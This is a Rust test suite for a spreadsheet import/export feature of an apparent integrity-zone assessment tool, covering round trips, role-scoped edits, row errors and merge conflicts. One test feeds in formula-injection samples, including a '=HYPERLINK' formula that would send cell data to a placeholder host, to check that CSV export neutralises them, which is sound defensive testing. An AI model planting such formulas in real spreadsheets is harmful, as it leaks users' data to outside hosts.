use super::import::{SheetImportOptions, WorksheetImport};
use super::*;
use crate::answer::AnswerValue;
use crate::report::manifest::build_manifest;
use crate::store::tests::{unit, workspace};

fn with(roles: ImportRoles) -> SheetImportOptions {
    SheetImportOptions {
        roles,
        ..SheetImportOptions::default()
    }
}

fn import_xlsx(
    ws: &Workspace,
    a: &Assessment,
    path: &Path,
    roles: ImportRoles,
) -> Result<WorksheetImport> {
    import_file(ws, a, path, &with(roles))
}

fn import_csv(
    ws: &Workspace,
    a: &Assessment,
    path: &Path,
    roles: ImportRoles,
) -> Result<WorksheetImport> {
    import_file(ws, a, path, &with(roles))
}

fn setup(dir: &Path) -> (Workspace, Assessment) {
    let ws = workspace(dir);
    ws.add_unit(&unit("U")).unwrap();
    let a = ws.new_assessment("U", 2024, None).unwrap();
    let t = ws.template_of(&a).unwrap();
    for (item, u, tpi) in [
        ("P.1.i.a", "ya", "tidak"),
        ("P.1.i.b", "b", "c"),
        ("R.1.i.a", "a=4;b=3", "a=4;b=2"),
        ("H.1.i.a", "3,61", "3.2"),
    ] {
        let code = item.parse().unwrap();
        let v = AnswerValue::parse(&t, code, u).unwrap();
        ws.set_answer(
            &a,
            Role::Unit,
            code,
            &v,
            Some("catatan; \"unit\"\nbaris dua"),
        )
        .unwrap();
        let v = AnswerValue::parse(&t, code, tpi).unwrap();
        ws.set_answer(&a, Role::Tpi, code, &v, None).unwrap();
    }
    // TPN's values from the LHE, on two of the items.
    for (item, v, note) in [("P.1.i.a", "tidak", "LHE hal. 3"), ("P.1.i.b", "c", "")] {
        let code = item.parse().unwrap();
        let v = AnswerValue::parse(&t, code, v).unwrap();
        ws.set_answer(&a, Role::Tpn, code, &v, Some(note)).unwrap();
    }
    ws.set_note(&a, Role::Tpi, "P.2.i.a".parse().unwrap(), "hanya catatan")
        .unwrap();
    (ws, a)
}

#[test]
fn rows_follow_the_lke_with_subtotals_weights_and_both_roles() {
    let dir = tempfile::tempdir().unwrap();
    let (ws, a) = setup(dir.path());
    let rows = worksheet_rows(&ws, &a).unwrap();
    let items: Vec<&SheetRow> = rows.iter().filter(|r| r.level == RowLevel::Item).collect();
    assert_eq!(items.len(), 113);
    let codes: Vec<&str> = rows.iter().take(5).map(|r| r.code.as_str()).collect();
    assert_eq!(codes, ["A", "P", "P.1", "P.1.i", "P.1.i.a"]);
    let total = rows.last().unwrap();
    assert_eq!((total.level, total.weight), (RowLevel::Total, Some(100.0)));
    // Hasil has no separate part row: B is its only part.
    assert!(
        !rows
            .iter()
            .any(|r| r.code == "H" && r.level == RowLevel::Part)
    );
    let r = rows.iter().find(|r| r.code == "R.1.i.a").unwrap();
    assert_eq!(
        (r.unit.answer_text.as_str(), r.tpi.answer_text.as_str()),
        ("a=4;b=3", "a=4;b=2")
    );
    assert!(r.options.contains("a=5;b=7"));
    let p11 = rows.iter().find(|r| r.code == "P.1.i").unwrap();
    assert_eq!(p11.weight, Some(0.5));
    assert!((p11.unit.value.unwrap() - 0.375).abs() < 1e-9);
    let csv = String::from_utf8(render_csv(&rows).unwrap()).unwrap();
    assert!(csv.contains("H.1.i.a;") && csv.contains(";3,61;"), "{csv}");
}

#[test]
fn xlsx_and_csv_round_trips_without_edits_change_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let (ws, a) = setup(dir.path());
    let log = ws.audit_log(Some(a.id)).unwrap().len();
    let manifest = build_manifest(&ws, &a).unwrap();
    let xlsx = dir.path().join("lke.xlsx");
    let csv = dir.path().join("lke.csv");
    export_xlsx(&ws, &a, &xlsx, false).unwrap();
    export_csv(&ws, &a, &csv, false).unwrap();
    for roles in [
        ImportRoles::Both,
        ImportRoles::Unit,
        ImportRoles::Tpi,
        ImportRoles::Tpn,
        ImportRoles::All,
    ] {
        let r = import_xlsx(&ws, &a, &xlsx, roles).unwrap();
        let changed = (r.items, r.changed_unit, r.changed_tpi, r.changed_tpn);
        assert_eq!(changed, (113, 0, 0, 0), "{roles:?}");
        let r = import_csv(&ws, &a, &csv, roles).unwrap();
        let changed = (r.items, r.changed_unit, r.changed_tpi, r.changed_tpn);
        assert_eq!(changed, (113, 0, 0, 0), "{roles:?}");
    }
    assert_eq!(ws.audit_log(Some(a.id)).unwrap().len(), log);
    assert_eq!(build_manifest(&ws, &a).unwrap(), manifest);
}

/// Export the CSV, let `f` edit its records (header first), write it back.
fn edit_csv(
    dir: &Path,
    ws: &Workspace,
    a: &Assessment,
    f: impl Fn(&mut Vec<Vec<String>>),
) -> std::path::PathBuf {
    let csv = dir.join("lke.csv");
    export_csv(ws, a, &csv, true).unwrap();
    let text = std::fs::read_to_string(&csv).unwrap();
    let mut reader = ::csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let mut records: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect();
    f(&mut records);
    let edited = dir.join("edit.csv");
    let mut w = ::csv::WriterBuilder::new()
        .delimiter(b';')
        .from_path(&edited)
        .unwrap();
    for r in &records {
        w.write_record(r).unwrap();
    }
    w.flush().unwrap();
    edited
}

/// Set column `col` (a title of [`COLUMNS`]) of the row of `code`.
fn set(records: &mut [Vec<String>], code: &str, col: &str, value: &str) {
    let c = COLUMNS.iter().position(|t| *t == col).unwrap();
    let row = records.iter_mut().find(|r| r[0] == code).unwrap();
    row[c] = value.to_string();
}

#[test]
fn edited_cells_are_imported_for_the_chosen_roles_only() {
    let dir = tempfile::tempdir().unwrap();
    let (ws, a) = setup(dir.path());
    let edited = edit_csv(dir.path(), &ws, &a, |r| {
        set(r, "P.1.i.a", "Jawaban Unit", "tidak");
        set(r, "P.1.i.a", "Jawaban TPI", "Ya");
        set(r, "P.1.i.a", "Nilai TPI", "0,00"); // scores in the file are ignored
    });
    let r = import_csv(&ws, &a, &edited, ImportRoles::Tpi).unwrap();
    assert_eq!((r.changed_unit, r.changed_tpi), (0, 1));
    let tpi = ws.answers(&a, Role::Tpi).unwrap();
    assert_eq!(tpi[&"P.1.i.a".parse().unwrap()], AnswerValue::YesNo(true));
    let r = import_csv(&ws, &a, &edited, ImportRoles::Both).unwrap();
    assert_eq!((r.changed_unit, r.changed_tpi), (1, 0));
    let unit = ws.answers(&a, Role::Unit).unwrap();
    assert_eq!(unit[&"P.1.i.a".parse().unwrap()], AnswerValue::YesNo(false));
    // An emptied note or answer keeps the stored one, unless asked.
    let edited = edit_csv(dir.path(), &ws, &a, |r| {
        set(r, "P.2.i.a", "Catatan Reviu TPI", "");
        set(r, "P.1.i.b", "Jawaban TPI", "");
    });
    let r = import_csv(&ws, &a, &edited, ImportRoles::Tpi).unwrap();
    assert_eq!(r.changed_tpi, 0);
    let clear = SheetImportOptions {
        clear_empty: true,
        ..with(ImportRoles::Tpi)
    };
    let r = import_file(&ws, &a, &edited, &clear).unwrap();
    assert_eq!(r.changed_tpi, 2);
    assert!(
        !ws.answers(&a, Role::Tpi)
            .unwrap()
            .contains_key(&"P.1.i.b".parse().unwrap())
    );
}

#[test]
fn bad_rows_are_all_named_and_nothing_is_written() {
    let dir = tempfile::tempdir().unwrap();
    let (ws, a) = setup(dir.path());
    let log = ws.audit_log(Some(a.id)).unwrap().len();
    let edited = edit_csv(dir.path(), &ws, &a, |r| {
        set(r, "P.1.i.a", "Jawaban Unit", "tidak"); // a good edit
        set(r, "P.1.i.b", "Jawaban Unit", "f");
        set(r, "P.2.i.b", "Kode (jangan diubah)", "P.2.i.z");
        set(r, "H.1.i.a", "Kode (jangan diubah)", "");
        set(r, "P.2.ii.a", "Kode (jangan diubah)", "P.1.i.a");
    });
    let err = import_csv(&ws, &a, &edited, ImportRoles::Both).unwrap_err();
    let Error::Rows(rows) = err else {
        panic!("{err}")
    };
    assert!(
        rows.file.ends_with("edit.csv, lembar 'edit.csv'"),
        "{}",
        rows.file
    );
    let got: Vec<(&str, &str)> = rows
        .rows
        .iter()
        .map(|r| (r.item.as_str(), r.value.as_str()))
        .collect();
    assert_eq!(
        got,
        [("P.1.i.b", "f"), ("P.2.i.z", ""), ("P.1.i.a", ""), ("", "")],
        "{rows}"
    );
    assert!(
        rows.rows[0].reason.starts_with("Jawaban Unit: pilihan"),
        "{rows}"
    );
    assert!(
        rows.rows[2].reason.contains("sudah ada di baris 6"),
        "{rows}"
    );
    assert!(rows.rows[3].reason.contains("Kode kosong"), "{rows}");
    assert_eq!(rows.rows[0].line, 9, "the file's own row number");
    assert_eq!(ws.audit_log(Some(a.id)).unwrap().len(), log);
}

#[test]
fn files_that_are_not_worksheets_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let (ws, a) = setup(dir.path());
    let junk = dir.path().join("bukan.xlsx");
    std::fs::write(&junk, b"bukan zip").unwrap();
    let err = import_xlsx(&ws, &a, &junk, ImportRoles::Both)
        .unwrap_err()
        .to_string();
    assert!(err.contains("bukan berkas XLSX"), "{err}");
    let csv = dir.path().join("jawaban.csv");
    std::fs::write(&csv, "item,answer\nP.1.i.a,ya\n").unwrap();
    let err = import_csv(&ws, &a, &csv, ImportRoles::Both)
        .unwrap_err()
        .to_string();
    assert!(err.contains("format lembar kerja tidak dikenali"), "{err}");
    let only_unit = edit_csv(dir.path(), &ws, &a, |r| r[0][8] = "Jawaban Penilai".into());
    let err = import_csv(&ws, &a, &only_unit, ImportRoles::Tpi)
        .unwrap_err()
        .to_string();
    assert!(err.contains("kolom 'Jawaban TPI' tidak ada"), "{err}");
    assert_eq!(
        import_csv(&ws, &a, &only_unit, ImportRoles::Unit)
            .unwrap()
            .changed_unit,
        0
    );
}

#[test]
fn the_lampiran3_total_row_carries_the_official_label() {
    let dir = tempfile::tempdir().unwrap();
    let (ws, a) = setup(dir.path());
    let out = dir.path().join("lampiran.xlsx");
    super::export(&ws, &a, &out, SheetFormat::Lampiran3, false).unwrap();
    let book = super::import::read_book(&out).unwrap();
    let sheet = &book.sheets[0];
    let (row, _) = sheet
        .rows()
        .find(|(_, cells)| {
            cells
                .values()
                .any(|t| t == "NILAI EVALUASI ZONA INTEGRITAS")
        })
        .expect("the total row");
    assert_eq!(
        Some(row),
        sheet.cells.keys().copied().max(),
        "it is the last row"
    );
    // And the file is read back whole: the label changes nothing.
    let r = import_xlsx(&ws, &a, &out, ImportRoles::Both).unwrap();
    assert_eq!((r.changed_unit, r.changed_tpi), (0, 0));
}

/// A Daduk-layout sheet written by hand: `Kode` and `Jawaban Unit`, then
/// one row per (code, answer cell XML inside `<c>`, style).
fn hand_sheet(dir: &Path, rows: &[(&str, &str, Option<u32>)]) -> std::path::PathBuf {
    let text = |at: &str, t: &str| format!(r#"<c r="{at}" t="inlineStr"><is><t>{t}</t></is></c>"#);
    let mut xml = format!(
        r#"<row r="1">{}{}</row>"#,
        text("A1", "Kode"),
        text("B1", "Jawaban Unit")
    );
    for (i, (code, inner, style)) in rows.iter().enumerate() {
        let n = i + 2;
        let s = style.map_or(String::new(), |s| format!(r#" s="{s}""#));
        let answer = if inner.is_empty() {
            String::new()
        } else {
            format!(r#"<c r="B{n}"{s}>{inner}</c>"#)
        };
        xml.push_str(&format!(
            r#"<row r="{n}">{}{answer}</row>"#,
            text(&format!("A{n}"), code)
        ));
    }
    let path = dir.join("tangan.xlsx");
    std::fs::write(
        &path,
        daduk_sheet::build::one_sheet(&format!("<sheetData>{xml}</sheetData>"), &[], &[9]),
    )
    .unwrap();
    path
}

#[test]
fn a_formula_without_its_result_is_unknown_and_clears_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let (ws, a) = setup(dir.path());
    let path = hand_sheet(
        dir.path(),
        &[
            // Written by a program that does not calculate: no cached value.
            ("P.1.i.a", r#"<f>IF(C2="","ya","tidak")</f>"#, None),
            ("P.1.i.b", "", None),
            ("R.1.i.a", "", None),
        ],
    );
    let clear = SheetImportOptions {
        clear_empty: true,
        ..with(ImportRoles::Unit)
    };
    let r = import_file(&ws, &a, &path, &clear).unwrap();
    let unit = ws.answers(&a, Role::Unit).unwrap();
    assert_eq!(
        unit.get(&"P.1.i.a".parse().unwrap()),
        Some(&AnswerValue::YesNo(true)),
        "unknown is not empty: the stored answer stays"
    );
    assert!(
        !unit.contains_key(&"P.1.i.b".parse().unwrap()),
        "an empty cell clears"
    );
    assert!(!unit.contains_key(&"R.1.i.a".parse().unwrap()));
    assert_eq!(r.changed_unit, 2);
    let warning = r.warnings.iter().find(|w| w.contains("P.1.i.a")).unwrap();
    assert!(
        warning.contains("baris 2") && warning.contains("rumus yang hasilnya tidak tersimpan"),
        "{warning}"
    );
}

#[test]
fn a_percentage_where_a_survey_index_belongs_is_refused_with_its_row() {
    let dir = tempfile::tempdir().unwrap();
    let (ws, a) = setup(dir.path());
    // "75%" typed into Excel: the number 0.75 with a percentage format
    // (style 1 is `0%`), or the text as typed into a text cell.
    let paths = [
        hand_sheet(dir.path(), &[("H.1.i.a", "<v>0.75</v>", Some(1))]),
        hand_sheet_typed(dir.path(), "H.1.i.a", "75%"),
    ];
    for path in paths {
        let err = import_xlsx(&ws, &a, &path, ImportRoles::Unit).unwrap_err();
        let Error::Rows(rows) = err else {
            panic!("{err}")
        };
        assert_eq!(rows.rows[0].line, 2, "{:?}", rows.rows);
        assert_eq!(rows.rows[0].item, "H.1.i.a");
        assert!(
            rows.rows[0].reason.contains("'75%' adalah persentase")
                && rows.rows[0].reason.contains("indeks survei 0 sampai 4"),
            "{}",
            rows.rows[0].reason
        );
    }
    // The index as such is read, with a comma or a dot.
    let path = hand_sheet_typed(dir.path(), "H.1.i.a", "3,61");
    import_xlsx(&ws, &a, &path, ImportRoles::Unit).unwrap();
    assert_eq!(
        ws.answers(&a, Role::Unit).unwrap()[&"H.1.i.a".parse().unwrap()],
        AnswerValue::SurveyIndex(3.61)
    );
}

/// A one-item Daduk-layout sheet whose answer is text.
fn hand_sheet_typed(dir: &Path, code: &str, text: &str) -> std::path::PathBuf {
    let path = dir.join("ketik.xlsx");
    let xml = format!(
        r#"<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Kode</t></is></c><c r="B1" t="inlineStr"><is><t>Jawaban Unit</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>{code}</t></is></c><c r="B2" t="inlineStr"><is><t>{text}</t></is></c></row></sheetData>"#
    );
    std::fs::write(&path, daduk_sheet::build::one_sheet(&xml, &[], &[9])).unwrap();
    path
}

/// Notes, file names and references that start like a formula are text in
/// the CSV (a spreadsheet does not run them) and come back unchanged.
#[test]
fn text_that_starts_like_a_formula_is_text_in_the_csv_and_round_trips() {
    let dir = tempfile::tempdir().unwrap();
    let (ws, a) = setup(dir.path());
    let notes = [
        ("P.1.iv.a", "=1+1"),
        (
            "P.1.ii.a",
            "=HYPERLINK(\"http://contoh.invalid/?\"&A1;\"klik\")",
        ),
        ("P.1.ii.b", "'=1+1"),
        ("P.1.ii.c", "@SUM(A1:A9)"),
        ("P.1.iii.b", "+62 812 3456"),
        ("P.1.iii.c", "-5 dari target"),
    ];
    for (item, note) in notes {
        ws.set_note(&a, Role::Unit, item.parse().unwrap(), note)
            .unwrap();
    }
    let file = dir.path().join("=cmd.pdf");
    std::fs::write(&file, b"%PDF").unwrap();
    ws.add_evidence_file(&a, "P.1.ii.a".parse().unwrap(), &file, None, None, None)
        .unwrap();
    ws.add_reference(&a, "P.1.ii.a".parse().unwrap(), "=SK 12", "")
        .unwrap();
    let csv = dir.path().join("lke.csv");
    export_csv(&ws, &a, &csv, true).unwrap();
    let text = std::fs::read_to_string(&csv).unwrap();
    let mut reader = ::csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a spreadsheet would run {cell:?}"
            );
        }
    }
    assert!(text.contains("'=1+1") && text.contains("''=1+1"), "{text}");
    let log = ws.audit_log(Some(a.id)).unwrap().len();
    let r = import_csv(&ws, &a, &csv, ImportRoles::Both).unwrap();
    assert_eq!(
        (r.changed_unit, r.changed_tpi, r.changed_references),
        (0, 0, 0)
    );
    assert_eq!(ws.audit_log(Some(a.id)).unwrap().len(), log);
    // An XLSX writes them as text cells (shared strings, never a formula;
    // LibreOffice shows them as typed), and reads them back the same.
    let xlsx = dir.path().join("lke.xlsx");
    export_xlsx(&ws, &a, &xlsx, true).unwrap();
    let r = import_xlsx(&ws, &a, &xlsx, ImportRoles::Both).unwrap();
    assert_eq!(
        (r.changed_unit, r.changed_tpi, r.changed_references),
        (0, 0, 0)
    );
    let records = ws.answer_records(&a).unwrap();
    for (item, note) in notes {
        let r = records
            .iter()
            .find(|r| r.item.to_string() == item && r.role == Role::Unit)
            .unwrap();
        assert_eq!(r.note, note);
    }
}

/// Set the cell of `item` in the column titled `column` of Daduk's sheet.
fn put(book: &mut crate::sheet::Book, item: &str, column: &str, text: &str) {
    let sheet = &mut book.sheets[0];
    let (header, col) = sheet
        .rows()
        .find_map(|(r, cells)| {
            cells
                .iter()
                .find(|(_, t)| t.trim() == column)
                .map(|(c, _)| (r, *c))
        })
        .unwrap();
    let row = sheet
        .rows()
        .filter(|(r, _)| *r > header)
        .find(|(_, cells)| cells.values().any(|t| t.trim() == item))
        .map(|(r, _)| r)
        .unwrap();
    sheet
        .cells
        .get_mut(&row)
        .unwrap()
        .insert(col, text.to_string());
}

#[test]
fn a_sheet_exported_here_takes_only_its_own_edits_and_keeps_a_clash_as_a_conflict() {
    let dir = tempfile::tempdir().unwrap();
    let (ws, a) = setup(dir.path());
    let t = ws.template_of(&a).unwrap();
    let xlsx = dir.path().join("lke.xlsx");
    export_xlsx(&ws, &a, &xlsx, false).unwrap();
    let mut book = import::read_book(&xlsx).unwrap();
    let mark = book.sheets[0]
        .rows()
        .flat_map(|(_, c)| c.values())
        .any(|t| t.contains("Penanda salinan:"));
    assert!(mark, "Daduk's sheet names where it was copied from");

    // After the export the app changes P.1.i.b and P.1.i.a, which the
    // sheet leaves as exported.
    let set = |item: &str, v: &str| {
        let code = item.parse().unwrap();
        ws.set_answer(
            &a,
            Role::Unit,
            code,
            &AnswerValue::parse(&t, code, v).unwrap(),
            None,
        )
        .unwrap();
    };
    set("P.1.i.b", "a");
    set("P.1.i.a", "tidak");
    // The sheet edits R.1.i.a and P.1.ii.a (untouched in the app), and
    // P.1.i.a's note, which the app changes too, differently.
    put(&mut book, "R.1.i.a", "Jawaban Unit", "a=5;b=5");
    put(&mut book, "P.1.ii.a", "Jawaban Unit", "ya");
    put(&mut book, "P.1.i.a", "Catatan Unit", "diubah di lembar");
    ws.set_note(
        &a,
        Role::Unit,
        "P.1.i.a".parse().unwrap(),
        "diubah di aplikasi",
    )
    .unwrap();
    let r = import::import_book(&ws, &a, &book, &with(ImportRoles::Unit)).unwrap();

    let unit = ws.answers(&a, Role::Unit).unwrap();
    let v = |item: &str| unit.get(&item.parse().unwrap()).map(ToString::to_string);
    assert_eq!(
        v("P.1.i.b").as_deref(),
        Some("a"),
        "changed only here: kept"
    );
    assert_eq!(
        v("P.1.i.a").as_deref(),
        Some("tidak"),
        "changed only here: kept"
    );
    assert_eq!(
        v("R.1.i.a").as_deref(),
        Some("a=5;b=5"),
        "changed only in the sheet: taken"
    );
    assert_eq!(
        v("P.1.ii.a").as_deref(),
        Some("ya"),
        "new in the sheet: taken"
    );
    let note = ws
        .answer_records(&a)
        .unwrap()
        .into_iter()
        .find(|x| x.role == Role::Unit && x.item == "P.1.i.a".parse().unwrap())
        .unwrap()
        .note;
    assert_eq!(note, "diubah di aplikasi", "changed on both: kept here");
    assert_eq!(r.conflicts.len(), 1, "{:?}", r.conflicts);
    let c = &r.conflicts[0];
    assert_eq!(
        (
            c.what.as_str(),
            c.key.as_str(),
            c.local.as_deref(),
            c.remote.as_deref()
        ),
        (
            "catatan",
            "P.1.i.a",
            Some("diubah di aplikasi"),
            Some("diubah di lembar")
        )
    );
    let open = ws.open_conflicts(&a).unwrap();
    assert_eq!(open.len(), 1);
    assert_eq!(open[0].origin, crate::sync::ConflictOrigin::Worksheet);
    assert_eq!(ws.resolve_conflicts(&a, None).unwrap(), 1);

    // The same sheet in another workspace: no base known there, taken as
    // the person's word, and said so.
    let other_dir = tempfile::tempdir().unwrap();
    let (other, oa) = setup(other_dir.path());
    let r = import::import_book(&other, &oa, &book, &with(ImportRoles::Unit)).unwrap();
    assert!(r.conflicts.is_empty());
    assert!(
        r.warnings.iter().any(|w| w.contains("ruang kerja lain")),
        "{:?}",
        r.warnings
    );
    let unit = other.answers(&oa, Role::Unit).unwrap();
    assert_eq!(unit[&"P.1.i.b".parse().unwrap()].to_string(), "b");
}

#[test]
fn tpn_columns_are_written_and_read_only_when_asked() {
    let dir = tempfile::tempdir().unwrap();
    let (ws, a) = setup(dir.path());
    let rows = worksheet_rows(&ws, &a).unwrap();
    let r = rows.iter().find(|r| r.code == "P.1.i.a").unwrap();
    assert_eq!(
        (r.tpn.answer_text.as_str(), r.tpn.note.as_str()),
        ("tidak", "LHE hal. 3")
    );
    assert_eq!(
        r.unit.note, "catatan; \"unit\"\nbaris dua",
        "TPN's note is not the unit's"
    );
    let total = rows.last().unwrap();
    assert_eq!(
        total.tpn.value,
        Some(ws.score(&a, Role::Tpn).unwrap().total)
    );

    let edited = edit_csv(dir.path(), &ws, &a, |r| {
        set(r, "P.1.i.b", "Jawaban TPN", "a");
        set(r, "R.1.i.a", "Jawaban TPN", "a=4;b=1");
        set(r, "R.1.i.a", "Catatan TPN", "LHE hal. 7");
        set(r, "P.1.i.a", "Jawaban Unit", "tidak");
    });
    for roles in [ImportRoles::Unit, ImportRoles::Tpi, ImportRoles::Both] {
        let options = SheetImportOptions {
            clear_empty: true,
            ..with(roles)
        };
        // The unit's edit is read where asked; TPN's columns never are.
        let r = import_file(&ws, &a, &edited, &options).unwrap();
        assert_eq!(r.changed_tpn, 0, "{roles:?}");
    }
    let before = ws.answers(&a, Role::Unit).unwrap();
    let r = import_csv(&ws, &a, &edited, ImportRoles::Tpn).unwrap();
    assert_eq!((r.changed_unit, r.changed_tpi, r.changed_tpn), (0, 0, 2));
    let tpn = ws.answers(&a, Role::Tpn).unwrap();
    let v = |item: &str| tpn.get(&item.parse().unwrap()).map(ToString::to_string);
    assert_eq!(v("P.1.i.b").as_deref(), Some("a"));
    assert_eq!(v("R.1.i.a").as_deref(), Some("a=4;b=1"));
    assert_eq!(v("P.1.i.a").as_deref(), Some("tidak"));
    assert_eq!(ws.answers(&a, Role::Unit).unwrap(), before);
    let note = ws
        .answer_records(&a)
        .unwrap()
        .into_iter()
        .find(|x| x.role == Role::Tpn && x.item == "R.1.i.a".parse().unwrap())
        .unwrap()
        .note;
    assert_eq!(note, "LHE hal. 7");

    // Lampiran III has no TPN columns: asked for, refused, nothing written.
    let log = ws.audit_log(Some(a.id)).unwrap().len();
    let lampiran = dir.path().join("lampiran.xlsx");
    super::export(&ws, &a, &lampiran, SheetFormat::Lampiran3, false).unwrap();
    let err = import_xlsx(&ws, &a, &lampiran, ImportRoles::All)
        .unwrap_err()
        .to_string();
    assert!(err.contains("tidak punya kolom 'Jawaban TPN'"), "{err}");
    assert_eq!(ws.audit_log(Some(a.id)).unwrap().len(), log);
}

#[test]
fn tpn_edits_of_a_sheet_exported_here_merge_by_the_one_rule() {
    let dir = tempfile::tempdir().unwrap();
    let (ws, a) = setup(dir.path());
    let t = ws.template_of(&a).unwrap();
    let xlsx = dir.path().join("lke.xlsx");
    export_xlsx(&ws, &a, &xlsx, false).unwrap();
    let mut book = import::read_book(&xlsx).unwrap();
    // After the export, TPN's value of P.1.i.a is corrected here and a note
    // written on P.1.i.b; the sheet changes P.1.i.a's note, P.1.i.b's note
    // differently, and adds R.1.i.a.
    let (p11a, p11b) = ("P.1.i.a".parse().unwrap(), "P.1.i.b".parse().unwrap());
    ws.set_answer(
        &a,
        Role::Tpn,
        p11a,
        &AnswerValue::parse(&t, p11a, "ya").unwrap(),
        None,
    )
    .unwrap();
    ws.set_note(&a, Role::Tpn, p11b, "LHE revisi").unwrap();
    put(&mut book, "P.1.i.a", "Catatan TPN", "LHE hal. 4");
    put(&mut book, "P.1.i.b", "Catatan TPN", "LHE hal. 9");
    put(&mut book, "R.1.i.a", "Jawaban TPN", "a=4;b=0");
    let r = import::import_book(&ws, &a, &book, &with(ImportRoles::Tpn)).unwrap();
    let tpn = ws.answers(&a, Role::Tpn).unwrap();
    let v = |item: &str| tpn.get(&item.parse().unwrap()).map(ToString::to_string);
    assert_eq!(
        v("P.1.i.a").as_deref(),
        Some("ya"),
        "changed only here: kept"
    );
    assert_eq!(
        v("R.1.i.a").as_deref(),
        Some("a=4;b=0"),
        "new in the sheet: taken"
    );
    assert_eq!(r.changed_tpn, 2, "{r:?}");
    let records = ws.answer_records(&a).unwrap();
    let note = |item| {
        records
            .iter()
            .find(|x| x.role == Role::Tpn && x.item == item)
            .unwrap()
            .note
            .as_str()
    };
    assert_eq!(note(p11a), "LHE hal. 4", "changed only in the sheet: taken");
    assert_eq!(note(p11b), "LHE revisi", "changed on both: kept here");
    assert_eq!(r.conflicts.len(), 1, "{:?}", r.conflicts);
    let c = &r.conflicts[0];
    assert_eq!(c.side, Role::Tpn);
    assert_eq!(
        (
            c.what.as_str(),
            c.key.as_str(),
            c.local.as_deref(),
            c.remote.as_deref()
        ),
        ("catatan", "P.1.i.b", Some("LHE revisi"), Some("LHE hal. 9"))
    );
    let open = ws.open_conflicts(&a).unwrap();
    assert_eq!(open.len(), 1);
    assert_eq!(open[0].origin, crate::sync::ConflictOrigin::Worksheet);
}
